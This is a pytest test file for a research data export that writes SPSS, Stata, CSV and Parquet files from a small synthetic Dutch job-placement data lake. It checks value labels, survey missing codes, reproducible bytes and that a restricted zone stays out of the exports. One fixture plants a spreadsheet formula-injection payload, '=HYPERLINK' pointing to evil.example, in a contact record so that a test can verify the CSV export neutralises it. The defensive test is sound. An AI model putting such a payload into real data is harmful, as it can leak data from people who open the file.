"""Research export over a tiny hand-made curated lake: sav (pyreadstat, GNU PSPP), csv, parquet."""

from __future__ import annotations

import argparse
import csv
import datetime as dt
import subprocess
from pathlib import Path
from typing import Any

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pyreadstat
import pytest

from commands.export import run_research as run_cli
from dwt.codebook import render_codebook, spss_code_values, table_columns
from dwt.config import ConfigError
from dwt.export.research import (
    SAV_STAMP,
    SAV_STAMP_OFFSET,
    export_research,
    research_tables,
)
from dwt.schema import arrow_type, curated_tables, load_instrument
from dwt.zones import ResearchZone

HYPERLINK = '=HYPERLINK("http://evil.example/?leak","klik")'
REGION = "haaglanden"


def _write(curated: Path, table: str, rows: list[dict[str, Any]], **partition: Any) -> None:
    """One hive partition file; columns (all of them, None when not given) from the schema."""
    cols = curated_tables()[table].columns
    schema = pa.schema([(c["name"], arrow_type(c["type"])) for c in cols])
    data = {c["name"]: [r.get(c["name"]) for r in rows] for c in cols}
    folder = curated / table
    for key in curated_tables()[table].partition:
        folder = folder / f"{key}={partition[key]}"
    folder.mkdir(parents=True, exist_ok=True)
    pq.write_table(pa.table(data, schema=schema), folder / "part-0.parquet")


def _placement(pid: str, **values: Any) -> dict[str, Any]:
    base = {
        "placement_id": f"pl{pid}",
        "participant_id": f"pa{pid}",
        "employer_id": "em01",
        "start_date": dt.date(2018, 3, 1),
        "contract_type": "vast",
        "hours_per_week": 24.5,
        "wage_value_pct": 60,
        "target_group": "wajong",
        "disability_type": "psychisch",
        "birth_year": 1990,
        "gender": "vrouw",
        "job_coach": "extern",
        "job_coach_level": "midden",
        "buddy_training": "harrie_helpt",
        "sector": "Q",
        "employer_size": "25-99",
        "first_wave": 2018,
        "last_wave": 2019,
        "missing_from_latest": False,
    }
    return {**base, **values}


@pytest.fixture(scope="module")
def data_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    data = tmp_path_factory.mktemp("lake") / "data"
    curated = data / "curated"
    ended = _placement(
        "01", end_date=dt.date(2019, 6, 30), end_reason="ontslag", contract_type="proefplaatsing"
    )
    ongoing = _placement("02", job_coach="geen", job_coach_level=None, wage_value_pct=None)
    _write(curated, "placements", [ended, ongoing], region=REGION)
    _write(curated, "placement_history", [ended, ongoing], region=REGION, wave=2019)
    _write(curated, "placement_history", [ongoing], region=REGION, wave=2018)
    survey = {
        "participant_id": "pa01",
        "response_date": dt.date(2019, 9, 15),
        "employed": True,
        "same_employer": None,
        "same_employer__missing": "niet_van_toepassing",
        "hours_per_week": 20.0,
        "work_ability": 7,
        "buddy_present": False,
    }
    # why an answer is missing, as the curation records it (the item itself stays NULL)
    no_answer = {
        "participant_id": "pa02",
        "response_date": dt.date(2019, 10, 1),
        "employed": False,
        "work_ability": None,
        "work_ability__missing": "geen_antwoord",
        "buddy_present": None,
        "buddy_present__missing": "niet_van_toepassing",
        "health": None,
        "health__missing": "niet_geleverd",
        "hours_per_week": None,
        "hours_per_week__missing": "geen_antwoord",
        "job_satisfaction": 3,
    }
    answered = {
        "participant_id": "pa03",
        "response_date": dt.date(2019, 10, 2),
        "employed": True,
        "work_ability": 5,
        "health": None,
        "health__missing": "niet_van_toepassing",
    }
    _write(curated, "employee_survey", [survey, no_answer, answered], region=REGION, wave=2019)
    employer = {
        "employer_id": "em01",
        "employees_total": 120,
        "measure_wage_subsidy": True,
        "measure_job_carving": None,
        "measure_job_carving__missing": "geen_antwoord",
    }
    _write(curated, "employer_survey", [employer], region=REGION, wave=2019)
    contacts = [
        {
            "contact_id": "c001",
            "participant_id": "pa01",
            "employer_id": "em01",
            "contact_date": dt.date(2019, 5, 2),
            "advisor_code": HYPERLINK,
            "contact_type": "werkplekobservatie",
            "risk_level": "oranje",
            "signals": ["werkdruk", "prive"],
            "advice_given": True,
        },
        {
            "contact_id": "c002",
            "employer_id": "em01",
            "contact_date": dt.date(2019, 11, 20),
            "advisor_code": "AD-014",
            "contact_type": "telefonisch",
            "risk_level": "groen",
            "signals": None,
            "advice_given": False,
        },
    ]
    _write(curated, "contacts", contacts, region=REGION, wave=2019)
    emp = {"employer_id": "em01", "sector": "Q", "employer_size": "25-99", "placements": 2}
    _write(curated, "employers", [emp], region=REGION)
    _write(curated, "employers", [{**emp, "employer_id": "em02"}], region="west-brabant")
    # The restricted zone beside it: the export must never read or mention it.
    restricted = data / "restricted" / "employer_directory"
    restricted.mkdir(parents=True)
    (restricted / "part-0.csv").write_text("employer_id,employer_name\nem01,RESTRICTED-SENTINEL\n")
    return data


@pytest.fixture(scope="module")
def exports(data_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    out = {}
    for fmt in ("sav", "dta", "csv", "parquet"):
        folder = tmp_path_factory.mktemp(f"export-{fmt}")
        export_research(ResearchZone(data_dir / "curated"), folder, fmt)
        out[fmt] = folder
    return out


def _read_sav(folder: Path, table: str) -> tuple[pd.DataFrame, Any]:
    return pyreadstat.read_sav(str(folder / f"{table}.sav"))


CODEBOOKS = ["codebook.md", "data-dictionary.csv", "datapackage.json"]


def test_writes_one_file_per_research_table_and_the_codebooks(exports: dict[str, Path]) -> None:
    for fmt, folder in exports.items():
        names = sorted(p.name for p in folder.iterdir())
        assert names == sorted([f"{t}.{fmt}" for t in research_tables()] + CODEBOOKS)
        assert (folder / "codebook.md").read_text(encoding="utf-8") == render_codebook("md")


def test_dta_reads_back_with_variable_and_value_labels_and_the_sav_values(
    exports: dict[str, Path],
) -> None:
    frame, meta = pyreadstat.read_dta(str(exports["dta"] / "placements.dta"))
    sav, _ = _read_sav(exports["sav"], "placements")
    assert list(frame.columns) == list(sav.columns)
    assert meta.column_names_to_labels["contract_type"] == "Contractvorm"
    codes = load_instrument("placements").column("contract_type").codes
    assert meta.variable_value_labels["contract_type"] == {
        v: c for c, v in spss_code_values(codes).items()
    }
    rows = frame.set_index("placement_id")
    assert rows.loc["pl01", "contract_type"] == spss_code_values(codes)["proefplaatsing"]
    assert rows.loc["pl01", "start_date"] == dt.date(2018, 3, 1)
    assert pd.isna(rows.loc["pl02", "end_date"])
    assert rows.loc["pl01", "hours_per_week"] == 24.5
    assert meta.variable_value_labels["missing_from_latest"] == {0: "nee", 1: "ja"}
    flags, _ = pyreadstat.read_dta(str(exports["dta"] / "contacts.dta"))
    assert flags.set_index("contact_id").loc["c001", "signal_werkdruk"] == 1


def test_the_data_dictionary_has_a_row_per_exported_variable_in_redcap_columns(
    exports: dict[str, Path],
) -> None:
    from dwt.export.dictionary import REDCAP_COLUMNS

    with (exports["csv"] / "data-dictionary.csv").open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert tuple(rows[0]) == REDCAP_COLUMNS
    for table in research_tables():
        with (exports["csv"] / f"{table}.csv").open(encoding="utf-8") as fh:
            header = next(csv.reader(fh))
        assert [r["Variable / Field Name"] for r in rows if r["Form Name"] == table] == header
    contract = next(r for r in rows if r["Variable / Field Name"] == "contract_type")
    assert contract["Field Type"] == "dropdown"
    assert contract["Choices, Calculations, OR Slider Labels"].startswith("1, proefplaatsing | ")
    start = next(r for r in rows if r["Variable / Field Name"] == "start_date")
    assert start["Text Validation Type OR Show Slider Number"] == "date_ymd"


def test_the_csv_export_validates_against_its_data_package(
    exports: dict[str, Path], tmp_path: Path
) -> None:
    from frictionless import Package

    report = Package(str(exports["csv"] / "datapackage.json")).validate()
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])[:10]
    # the check can fail: a code the schema does not know makes the package invalid
    import shutil

    broken = tmp_path / "broken"
    shutil.copytree(exports["csv"], broken)
    text = (broken / "placements.csv").read_text(encoding="utf-8")
    (broken / "placements.csv").write_text(text.replace(",vast,", ",onbekende_vorm,", 1))
    assert ",onbekende_vorm," in (broken / "placements.csv").read_text(encoding="utf-8")
    bad = Package(str(broken / "datapackage.json")).validate()
    assert not bad.valid
    assert any(e[2] == "constraint-error" for e in bad.flatten(["rowNumber", "fieldName", "type"]))


def test_sav_has_dutch_variable_labels_for_every_column(exports: dict[str, Path]) -> None:
    _, meta = _read_sav(exports["sav"], "placements")
    labels = meta.column_names_to_labels
    assert labels["region"] == "Arbeidsmarktregio"
    for col in table_columns("placements"):
        assert labels[col["name"]] == (col["label"].get("nl") or col["description"])
    assert labels["contract_type"] == "Contractvorm"
    assert labels["placement_id"] == "Plaatsing (pseudoniem)"


def test_sav_codes_are_integers_in_schema_order_with_the_code_as_value_label(
    exports: dict[str, Path],
) -> None:
    frame, meta = _read_sav(exports["sav"], "placements")
    codes = load_instrument("placements").column("contract_type").codes
    assert meta.variable_value_labels["contract_type"] == {
        float(v): c for c, v in spss_code_values(codes).items()
    }
    assert meta.variable_value_labels["contract_type"][1.0] == "proefplaatsing"
    rows = frame.set_index("placement_id")
    assert rows.loc["pl01", "contract_type"] == spss_code_values(codes)["proefplaatsing"]
    assert rows.loc["pl02", "contract_type"] == spss_code_values(codes)["vast"]
    assert meta.variable_value_labels["sector"][17.0] == "Q"
    assert rows.loc["pl01", "sector"] == 17


def test_sav_values_round_trip(exports: dict[str, Path]) -> None:
    frame, meta = _read_sav(exports["sav"], "placements")
    rows = frame.set_index("placement_id")
    assert rows.loc["pl01", "region"] == REGION
    assert rows.loc["pl01", "start_date"] == dt.date(2018, 3, 1)
    assert rows.loc["pl01", "end_date"] == dt.date(2019, 6, 30)
    assert pd.isna(rows.loc["pl02", "end_date"])
    assert rows.loc["pl01", "hours_per_week"] == 24.5
    assert rows.loc["pl01", "wage_value_pct"] == 60
    assert pd.isna(rows.loc["pl02", "wage_value_pct"])
    assert rows.loc["pl01", "missing_from_latest"] == 0
    assert meta.original_variable_types["start_date"] == "DATE11"
    assert meta.variable_value_labels["missing_from_latest"] == {0.0: "nee", 1.0: "ja"}


def test_sav_expands_signals_to_one_flag_per_code(exports: dict[str, Path]) -> None:
    frame, meta = _read_sav(exports["sav"], "contacts")
    codes = load_instrument("contacts").column("signals").codes
    flags = [f"signal_{c}" for c in codes]
    assert "signals" not in frame.columns
    assert [c for c in frame.columns if c.startswith("signal_")] == flags
    rows = frame.set_index("contact_id")
    assert rows.loc["c001", "signal_werkdruk"] == 1
    assert rows.loc["c001", "signal_prive"] == 1
    assert rows.loc["c001", "signal_conflict"] == 0
    assert rows.loc["c002", flags].isna().all()  # no list given: unknown, not "no signal"
    assert meta.column_names_to_labels["signal_werkdruk"] == "Signalen: Werkdruk"
    assert meta.variable_value_labels["signal_werkdruk"] == {0.0: "nee", 1.0: "ja"}
    assert rows.loc["c001", "wave"] == 2019


def test_gnu_pspp_reads_the_sav_dictionary_and_values(
    exports: dict[str, Path], tmp_path: Path
) -> None:
    sav = exports["sav"] / "contacts.sav"
    syntax = tmp_path / "read.sps"
    syntax.write_text(f"GET FILE='{sav}'.\nDISPLAY DICTIONARY.\nLIST.\n", encoding="utf-8")
    result = subprocess.run(
        ["pspp", str(syntax)], capture_output=True, text=True, timeout=60, check=False
    )
    assert result.returncode == 0, result.stdout + result.stderr
    out = result.stdout
    assert "error" not in out.lower()
    for expected in (
        "contact_type",
        "Contactvorm",
        "werkplekobservatie",
        "signal_werkdruk",
        "Signalen: Werkdruk",
        "Risico-inschatting",
        "DATE11",
        "02-MAY-2019",
        "c002",
    ):
        assert expected in out, expected


def test_sav_header_stamp_is_fixed_so_exports_are_byte_identical(
    data_dir: Path, exports: dict[str, Path], tmp_path: Path
) -> None:
    again = export_research(ResearchZone(data_dir / "curated"), tmp_path, "sav")
    for path in again:
        assert path.read_bytes() == (exports["sav"] / path.name).read_bytes(), path.name
    header = (tmp_path / "placements.sav").read_bytes()[: SAV_STAMP_OFFSET + len(SAV_STAMP)]
    assert header[SAV_STAMP_OFFSET:] == SAV_STAMP


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_same_lake_gives_the_same_bytes(
    fmt: str, data_dir: Path, exports: dict[str, Path], tmp_path: Path
) -> None:
    for path in export_research(ResearchZone(data_dir / "curated"), tmp_path, fmt):
        assert path.read_bytes() == (exports[fmt] / path.name).read_bytes(), path.name


def test_csv_is_utf8_with_iso_dates_text_codes_and_expanded_signals(
    exports: dict[str, Path],
) -> None:
    frame = pd.read_csv(
        exports["csv"] / "placements.csv", dtype=str, keep_default_na=False, encoding="utf-8"
    )
    assert list(frame.columns) == [c["name"] for c in table_columns("placements")]
    row = frame.set_index("placement_id").loc["pl01"]
    assert row["region"] == REGION
    assert row["start_date"] == "2018-03-01"
    assert row["contract_type"] == "proefplaatsing"
    assert row["employer_size"] == "25-99"
    assert row["missing_from_latest"] == "false"
    assert row["wage_value_pct"] == "60"
    contacts = pd.read_csv(exports["csv"] / "contacts.csv", dtype=str, keep_default_na=False)
    assert "signals" not in contacts.columns
    first = contacts.set_index("contact_id").loc["c001"]
    assert (first["signal_werkdruk"], first["signal_conflict"]) == ("1", "0")
    assert contacts.set_index("contact_id").loc["c002", "signal_werkdruk"] == ""


def test_csv_neutralises_formula_injection(exports: dict[str, Path]) -> None:
    text = (exports["csv"] / "contacts.csv").read_text(encoding="utf-8")
    frame = pd.read_csv(exports["csv"] / "contacts.csv", dtype=str, keep_default_na=False)
    assert frame.set_index("contact_id").loc["c001", "advisor_code"] == "'" + HYPERLINK
    assert ",=HYPERLINK" not in text and '"=HYPERLINK' not in text
    assert frame.set_index("contact_id").loc["c002", "advisor_code"] == "AD-014"


def test_parquet_keeps_the_signal_list_and_partition_columns(exports: dict[str, Path]) -> None:
    table = pq.read_table(exports["parquet"] / "contacts.parquet")
    assert table.column_names == [c["name"] for c in table_columns("contacts")]
    rows = {r["contact_id"]: r for r in table.to_pylist()}
    assert rows["c001"]["signals"] == ["werkdruk", "prive"]
    assert rows["c002"]["signals"] is None
    assert rows["c001"]["region"] == REGION and rows["c001"]["wave"] == 2019
    assert table.schema.field("contact_date").type == pa.date32()


@pytest.mark.parametrize("fmt", ["sav", "csv", "parquet"])
def test_no_export_file_mentions_the_restricted_zone(
    fmt: str, data_dir: Path, exports: dict[str, Path]
) -> None:
    restricted = str(data_dir / "restricted").encode()
    for path in exports[fmt].iterdir():
        body = path.read_bytes()
        assert restricted not in body, path.name
        assert b"RESTRICTED-SENTINEL" not in body, path.name
        assert b"data/restricted" not in body, path.name


@pytest.mark.parametrize("fmt", ["sav", "csv", "parquet"])
def test_an_empty_lake_exports_empty_tables_with_their_columns(fmt: str, tmp_path: Path) -> None:
    curated = tmp_path / "curated"
    curated.mkdir()
    paths = export_research(ResearchZone(curated), tmp_path / "out", fmt)
    assert (tmp_path / "out" / "codebook.md").is_file()
    for table in research_tables():
        path = tmp_path / "out" / f"{table}.{fmt}"
        assert path in paths
        if fmt == "sav":
            frame, _ = pyreadstat.read_sav(str(path))
        elif fmt == "csv":
            frame = pd.read_csv(path)
        else:
            frame = pq.read_table(path).to_pandas()
        assert len(frame) == 0
        assert "region" in frame.columns
        assert {"participant_id", "employer_id", "placement_id", "interview_ref"} & set(
            frame.columns
        )


def test_cli_exports_from_the_data_dir_curated_zone(data_dir: Path, tmp_path: Path) -> None:
    args = argparse.Namespace(data_dir=str(data_dir), out=str(tmp_path / "x"), format="csv")
    assert run_cli(args) == 0
    assert (tmp_path / "x" / "placements.csv").is_file()


def test_cli_refuses_a_data_dir_without_a_curated_lake(tmp_path: Path) -> None:
    args = argparse.Namespace(data_dir=str(tmp_path), out=str(tmp_path / "x"), format="csv")
    with pytest.raises(ConfigError):
        run_cli(args)
    assert not (tmp_path / "x").exists()


# --- survey missing codes (issue 15) ------------------------------------------------------

MISSING_LABELS = {-9.0: "geen antwoord", -8.0: "niet van toepassing"}


def test_sav_holds_the_survey_missing_codes_as_user_missing_values_with_labels(
    exports: dict[str, Path],
) -> None:
    path = str(exports["sav"] / "employee_survey.sav")
    frame, meta = pyreadstat.read_sav(path, user_missing=True)
    rows = frame.set_index("participant_id")
    assert rows.loc["pa02", "work_ability"] == -9
    assert rows.loc["pa02", "buddy_present"] == -8
    assert rows.loc["pa02", "hours_per_week"] == -9
    assert rows.loc["pa01", "same_employer"] == -8
    assert rows.loc["pa03", "health"] == -8
    assert pd.isna(rows.loc["pa02", "health"])  # nothing delivered: system-missing
    assert rows.loc["pa01", "work_ability"] == 7
    for item in ("work_ability", "buddy_present", "health", "same_employer"):
        ranges = meta.missing_ranges[item]
        assert ranges == [{"lo": -9.0, "hi": -9.0}, {"lo": -8.0, "hi": -8.0}], item
    assert meta.variable_value_labels["work_ability"] == MISSING_LABELS
    assert meta.variable_value_labels["buddy_present"] == {**MISSING_LABELS, 0: "nee", 1: "ja"}
    assert meta.original_variable_types["buddy_present"] == "F2.0"  # wide enough for -9
    # the reason columns are not in the sav: the item itself says why
    assert not [c for c in frame.columns if c.endswith("__missing")]
    # a reader that honours SPSS missing values sees them as missing
    plain, _ = pyreadstat.read_sav(path)
    plain = plain.set_index("participant_id")
    assert pd.isna(plain.loc["pa02", "work_ability"])
    assert plain["work_ability"].mean() == 6.0  # (7 + 5) / 2: -9 is not counted
    employer, meta = pyreadstat.read_sav(
        str(exports["sav"] / "employer_survey.sav"), user_missing=True
    )
    assert employer.loc[0, "measure_job_carving"] == -9
    assert "measure_job_carving" in meta.missing_ranges


def test_gnu_pspp_lists_the_user_missing_values_and_leaves_them_out_of_statistics(
    exports: dict[str, Path], tmp_path: Path
) -> None:
    sav = exports["sav"] / "employee_survey.sav"
    syntax = tmp_path / "missing.sps"
    syntax.write_text(
        f"GET FILE='{sav}'.\nDISPLAY DICTIONARY /VARIABLES=work_ability buddy_present.\n"
        "DESCRIPTIVES /VARIABLES=work_ability.\nFREQUENCIES /VARIABLES=buddy_present.\n",
        encoding="utf-8",
    )
    result = subprocess.run(
        ["pspp", "-O", "format=csv", "-o", str(tmp_path / "out.csv"), str(syntax)],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert result.returncode == 0, result.stdout + result.stderr
    out = (tmp_path / "out.csv").read_text(encoding="utf-8")
    assert "error" not in out.lower()
    lines = list(csv.reader(out.splitlines()))
    # the dictionary: -9 and -8 are the variables' missing values ...
    header = lines.index(next(r for r in lines if r[:1] == ["Name"]))
    names = lines[header]
    dictionary = {r[0]: dict(zip(names, r, strict=True)) for r in lines[header + 1 : header + 3]}
    assert dictionary["work_ability"]["Missing Values"] == "-9; -8"
    assert dictionary["buddy_present"]["Missing Values"] == "-9; -8"
    # ... with their value labels, marked user-missing ([a] is PSPP's footnote for it)
    value_labels = [r[1:] for r in lines if len(r) == 3 and r[1].endswith("[a]")]
    assert value_labels.count(["-9[a]", "geen antwoord"]) == 2
    assert value_labels.count(["-8[a]", "niet van toepassing"]) == 2
    assert ["Footnote: a. User-missing value"] in lines
    # statistics leave them out: N 2, mean 6.00 (of 7 and 5), not (7 + 5 - 9) / 3
    assert ["Werkvermogen (WAS)", "2", "6.00", "1.41", "5", "7"] in lines
    # and a frequency table counts a code under Missing, by its label
    assert ["", "niet van toepassing", "1", "33.3%", "", ""] in lines
    assert ["Valid", "nee", "1", "33.3%", "100.0%", "100.0%"] in lines


def test_dta_holds_the_survey_missing_codes_as_labelled_extended_missing_values(
    exports: dict[str, Path],
) -> None:
    path = str(exports["dta"] / "employee_survey.dta")
    frame, meta = pyreadstat.read_dta(path, user_missing=True)
    rows = frame.set_index("participant_id")
    assert rows.loc["pa02", "work_ability"] == "a"  # .a geen antwoord
    assert rows.loc["pa02", "buddy_present"] == "b"  # .b niet van toepassing
    assert rows.loc["pa03", "health"] == "b"
    assert pd.isna(rows.loc["pa02", "health"])  # nothing delivered: plain missing (.)
    assert rows.loc["pa01", "work_ability"] == 7
    assert meta.variable_value_labels["work_ability"] == {
        "a": "geen antwoord",
        "b": "niet van toepassing",
    }
    assert meta.variable_value_labels["buddy_present"] == {
        "a": "geen antwoord",
        "b": "niet van toepassing",
        0: "nee",
        1: "ja",
    }
    assert meta.column_names_to_labels["work_ability"] == "Werkvermogen (WAS)"
    assert not [c for c in frame.columns if c.endswith("__missing")]
    # Stata (and every reader) counts extended missing values as missing
    plain, _ = pyreadstat.read_dta(path)
    assert plain["work_ability"].mean() == 6.0
    # a second reader: pandas sees Stata's own .a / .b
    stata = pd.read_stata(path, convert_missing=True, convert_categoricals=False)
    stata = stata.set_index("participant_id")
    assert str(stata.loc["pa02", "work_ability"]) == ".a"
    assert str(stata.loc["pa02", "buddy_present"]) == ".b"


def test_csv_writes_the_survey_missing_codes_and_its_data_package_declares_them(
    exports: dict[str, Path], tmp_path: Path
) -> None:
    import json
    import shutil

    from frictionless import Package

    frame = pd.read_csv(
        exports["csv"] / "employee_survey.csv", dtype=str, keep_default_na=False
    ).set_index("participant_id")
    assert frame.loc["pa02", "work_ability"] == "-9"
    assert frame.loc["pa02", "buddy_present"] == "-8"
    assert frame.loc["pa02", "hours_per_week"] == "-9"
    assert frame.loc["pa02", "health"] == ""  # nothing delivered
    assert frame.loc["pa01", "buddy_present"] == "false"
    assert not [c for c in frame.columns if c.endswith("__missing")]
    package = json.loads((exports["csv"] / "datapackage.json").read_text(encoding="utf-8"))
    resources = {r["name"]: r for r in package["resources"]}
    assert resources["employee-survey"]["schema"]["missingValues"] == ["", "-9", "-8"]
    assert resources["placements"]["schema"]["missingValues"] == [""]
    fields = {f["name"]: f for f in resources["employee-survey"]["schema"]["fields"]}
    assert "-9 = geen antwoord, -8 = niet van toepassing" in fields["work_ability"]["description"]
    assert Package(str(exports["csv"] / "datapackage.json")).validate().valid
    # the declaration is what makes the codes valid: without it a -8 is no boolean
    broken = tmp_path / "undeclared"
    shutil.copytree(exports["csv"], broken)
    for resource in package["resources"]:
        resource["schema"]["missingValues"] = [""]
    (broken / "datapackage.json").write_text(json.dumps(package), encoding="utf-8")
    report = Package(str(broken / "datapackage.json")).validate()
    assert not report.valid
    errors = report.flatten(["fieldName", "type"])
    assert ["buddy_present", "type-error"] in errors
    assert ["work_ability", "type-error"] not in errors  # -9 is an integer (range not declared)


def test_the_data_dictionary_documents_each_items_missing_codes(exports: dict[str, Path]) -> None:
    with (exports["csv"] / "data-dictionary.csv").open(encoding="utf-8", newline="") as fh:
        rows = {r["Variable / Field Name"]: r for r in csv.DictReader(fh)}
    item = rows["work_ability"]
    assert "@dwt-missing=-9,-8" in item["Field Annotation"]
    assert "-9 = geen antwoord, -8 = niet van toepassing" in item["Field Note"]
    assert "@dwt-missing" not in rows["employed"]["Field Annotation"]  # required: never missing
    assert "@dwt-missing" not in rows["participant_id"]["Field Annotation"]
    assert not [name for name in rows if name.endswith("__missing")]


def test_parquet_keeps_null_items_beside_their_reason_columns(exports: dict[str, Path]) -> None:
    table = pq.read_table(exports["parquet"] / "employee_survey.parquet")
    assert table.column_names == [c["name"] for c in table_columns("employee_survey")]
    rows = {r["participant_id"]: r for r in table.to_pylist()}
    assert rows["pa02"]["work_ability"] is None
    assert rows["pa02"]["work_ability__missing"] == "geen_antwoord"
    assert rows["pa02"]["health__missing"] == "niet_geleverd"
    assert rows["pa01"]["work_ability"] == 7 and rows["pa01"]["work_ability__missing"] is None
